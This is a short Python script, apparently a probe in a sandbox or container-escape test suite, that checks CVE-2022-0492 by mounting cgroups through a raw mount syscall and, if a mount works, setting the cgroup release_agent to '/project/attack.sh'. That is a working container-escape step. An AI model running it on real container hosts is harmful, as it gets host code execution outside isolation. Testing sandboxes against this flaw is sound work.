"""Has the kernel run a program outside by the release agent of a cgroup (CVE-2022-0492).

Escape: the line ESCAPED.
Tiers: os
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def call(*arguments):
    """The result of a system call, or minus its errno."""
    result = LIBC.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return -ctypes.get_errno() if result == -1 else result


os.makedirs("/tmp/cg", exist_ok=True)
for kind, options in [(b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup2", b"")]:
    got = call(165, b"none", b"/tmp/cg", kind, 0, options)
    print(kind, got)
    if got == 0:
        print("ESCAPED")
        open("/tmp/cg/release_agent", "w").write("/project/attack.sh")
